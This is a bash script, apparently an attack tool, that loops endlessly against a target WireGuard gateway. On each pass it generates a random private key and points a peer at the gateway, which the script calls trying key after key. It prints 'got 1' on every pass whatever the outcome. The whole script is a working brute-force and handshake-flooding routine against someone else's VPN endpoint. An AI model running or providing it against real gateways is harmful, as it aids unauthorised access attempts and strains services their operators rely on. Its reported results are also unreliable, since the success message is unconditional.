#!/bin/bash
# Tries key after key at a WireGuard gateway: wireguard_guess.sh ADDRESS PORT PUBLIC_KEY PAUSE_S. Prints `got 1` for each. Runs until it is stopped.
set -e
mkdir -p /run/wireguard
mount -t tmpfs tmpfs /run/wireguard
wireguard-go -f wgx >/dev/null 2>&1 &
child=$!
trap 'kill $child; exit 0' TERM
until [ -S /run/wireguard/wgx.sock ]; do kill -0 $child; sleep 0.02; done
ip link set wgx up
while true; do
  wg set wgx peer "$3" remove
  wg set wgx private-key <(wg genkey) peer "$3" endpoint "$1:$2" allowed-ips 10.8.0.1/32 persistent-keepalive 1
  echo 'got 1'
  sleep "$4" &
  wait $!
done
